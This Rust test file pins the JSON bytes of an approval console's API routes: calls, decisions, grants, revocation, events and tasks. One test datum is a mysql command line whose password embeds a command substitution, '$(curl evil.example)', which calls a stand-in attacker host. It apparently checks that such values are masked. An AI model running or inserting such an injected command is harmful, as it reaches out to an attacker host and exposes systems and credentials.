//! The JSON of every route, byte for byte. Clients rely on it: a change here is a change of the
//! wire.

use crate::support;

use std::fmt::Write as _;

use axum::Router;
use hitl::tasks::{EventLog, StepContext, Task, TaskManager, TaskStep};
use hitl::{ApprovalRequest, CallContext, Gate};
use hitl_console::{Tasks, Token, Tokens, router};
use serde_json::{Value, json};
use support::ask::{ANN, Answer, Ask, BOB, Events, get, listen, post};
use support::mask::masked;
use support::tools::{self, book_trip, contract, deletion, note, send_note, submit, submit_as};

/// The requests and responses, in order.
struct Transcript {
    console: Router,
    text: String,
}

impl Transcript {
    async fn new() -> (Gate, Self) {
        let gate = tools::gate().await;
        let tokens = Tokens::new()
            .with("ann", &Token::from_secret(ANN))
            .with("bob", &Token::from_secret(BOB));
        let console = router(gate.clone(), Tasks::none(), tokens);
        (gate, Self { console, text: String::new() })
    }

    async fn ask(&mut self, title: &str, ask: Ask) -> Answer {
        let answer = ask.by(ANN).of(&self.console).await;
        writeln!(self.text, "{title}\n{} {}\n", answer.status.as_u16(), masked(&answer.text))
            .unwrap();
        answer
    }
}

/// Returns a body about the request as it was shown, with more fields.
fn about(request: &ApprovalRequest, more: Value) -> Value {
    let binding = request.binding.to_string();
    let mut body = json!({ "revision": request.revision, "binding": binding });
    body.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    body
}

#[tokio::test]
async fn calls_and_decisions_are_these_bytes() {
    let (gate, mut t) = Transcript::new().await;
    let signed = contract(&gate).await;
    let deleted = deletion(&gate).await;
    let agent = CallContext::new("ann-owner").submitted_by("service:mailer").role("buyer");
    let secret = "mysql --password=\"aB3dE6gH$(curl evil.example)\" -h db";
    let noted = submit_as(&gate, send_note("bob", secret), agent.time_sensitive()).await;
    let trip = submit(&gate, book_trip("Ann", "JFK", "SFO", 1, 99.5, true, "economy", "")).await;

    t.ask("me", get("/api/me")).await;
    t.ask("sign-in", get("/api/sign-in")).await;
    t.ask("calls", get("/api/calls")).await;
    t.ask("page", get("/api/calls?limit=1")).await;
    for request in [&signed, &deleted, &noted] {
        t.ask("call", get(format!("/api/calls/{}", request.id))).await;
    }
    let path = |request: &ApprovalRequest, end: &str| format!("/api/calls/{}{end}", request.id);
    let uncover = post(path(&noted, "/uncover"), &about(&noted, json!({})));
    t.ask("uncover", uncover).await;
    let approve = about(&signed, json!({ "answer": "approve" }));
    t.ask("approve", post(path(&signed, "/decide"), &approve)).await;
    t.ask("approve again, as another", post(path(&signed, "/decide"), &approve)).await;
    let reject = about(&trip, json!({ "answer": "reject", "reason": "no", "mayAskAgain": true }));
    t.ask("reject", post(path(&trip, "/decide"), &reject)).await;
    let approve = about(&deleted, json!({ "answer": "approve" }));
    t.ask("approve without the name", post(path(&deleted, "/decide"), &approve)).await;
    t.ask("cancel", post(path(&deleted, "/cancel"), &json!({ "reason": "wrong project" }))).await;
    t.ask("cancelled", get(path(&deleted, ""))).await;
    t.ask("audit", get(path(&trip, "/audit"))).await;
    let resolve = json!({ "version": 1, "found": "executed" });
    t.ask("resolve", post(path(&trip, "/resolve"), &resolve)).await;
    let quick = note(&gate).await;
    let shown = about(&quick, json!({ "id": quick.id.to_string() }));
    let body = json!({ "answer": "approve", "calls": [shown, shown] });
    t.ask("bulk", post("/api/bulk", &body)).await;
    t.ask("no call", get("/api/calls/0198c5f2-7d3a-7cc1-8b5e-4f6a2f0d9e11")).await;
    t.ask("no such field", post(path(&noted, "/decide"), &about(&noted, json!({ "x": 1 })))).await;
    t.ask("presence", post("/api/presence", &json!({ "at": noted.id.to_string() }))).await;
    t.ask("onlookers", get(path(&noted, ""))).await;
    t.ask("stats", get("/api/stats")).await;
    insta::assert_snapshot!(t.text);
}

#[tokio::test]
async fn grants_are_these_bytes() {
    let (gate, mut t) = Transcript::new().await;
    let trip = |price| book_trip("Ann", "JFK", "SFO", 1, price, true, "economy", "");
    let (first, _second) = (submit(&gate, trip(99.5)).await, submit(&gate, trip(50.0)).await);
    let conditions = json!([
        { "path": "origin", "test": { "is": "JFK" } },
        { "path": "price", "test": { "atMost": "120" } },
    ]);
    let terms = json!({
        "lasting": "durable", "arguments": { "matching": conditions }, "uses": 3,
        "sum": { "path": "price", "atMost": "200" }, "until": "2101-01-01T00:00:00Z",
    });
    let path = |end: &str| format!("/api/calls/{}/grant{end}", first.id);
    let preview = post(path("/preview"), &about(&first, json!({ "terms": terms })));
    let preview = t.ask("preview", preview).await.ok();
    let save = json!({ "terms": terms, "preview": preview["digest"] });
    let saved = t.ask("save", post(path(""), &about(&first, save))).await.ok();
    t.ask("save again", post(path("/preview"), &about(&first, json!({})))).await;
    t.ask("grants", get("/api/grants?limit=1")).await;
    t.ask("call on a grant", get(format!("/api/calls/{}", first.id))).await;
    let grant = format!("/api/grants/{}", saved["grant"]["id"].as_str().unwrap());
    t.ask("grant", get(grant.as_str())).await;
    t.ask("revoke", post(format!("{grant}/revoke"), &json!({ "reason": "enough" }))).await;
    t.ask("revoked", get("/api/grants?which=all")).await;
    insta::assert_snapshot!(t.text);
}

#[tokio::test]
async fn events_and_tasks_are_these_bytes() {
    let gate = tools::gate().await;
    let log = EventLog::new(100);
    let manager = TaskManager::builder().emitter(log.clone()).build().unwrap();
    let tokens =
        Tokens::new().with("ann", &Token::from_secret(ANN)).with("bob", &Token::from_secret(BOB));
    let console = router(gate.clone(), Tasks::new(manager.clone(), log), tokens);
    let address = listen(console.clone()).await;
    let mut events = Events::open(address, ANN, None).await;
    let mut text = String::new();
    let mut next = async |kind: &str| {
        let event = events.next_of(kind).await;
        writeln!(text, "event {kind}\n{}\n", masked(&event.text)).unwrap();
    };
    next("hello").await;
    let request = note(&gate).await;
    next("call").await;
    gate.decide(request.reject("no").by("bob")).await.unwrap();
    next("call").await;
    let request = note(&gate).await;
    next("call").await;
    post("/api/presence", &json!({ "at": request.id.to_string() })).by(ANN).of(&console).await;
    next("presence").await;
    let work = |_: StepContext| async move {
        std::future::pending::<()>().await;
        Ok::<(), String>(())
    };
    let step = TaskStep::new("Copy", work).weight(2);
    let handle = manager.submit(Task::new("Export").step(step)).unwrap();
    next("task").await;
    let tasks = loop {
        let answer = get("/api/tasks").by(ANN).of(&console).await;
        if answer.text.contains("\"running\"") {
            break answer;
        }
        tokio::task::yield_now().await;
    };
    let path =
        format!("/api/tasks/{}/cancel", tasks.json()["tasks"][0]["taskId"].as_str().unwrap());
    let text = text + "tasks\n" + &masked(&tasks.text) + "\n\ncancel\n";
    let cancelled = post(path, &json!({ "reason": "enough" })).by(ANN).of(&console).await;
    drop(handle);
    insta::assert_snapshot!(format!("{text}{} {}", cancelled.status.as_u16(), cancelled.text));
}
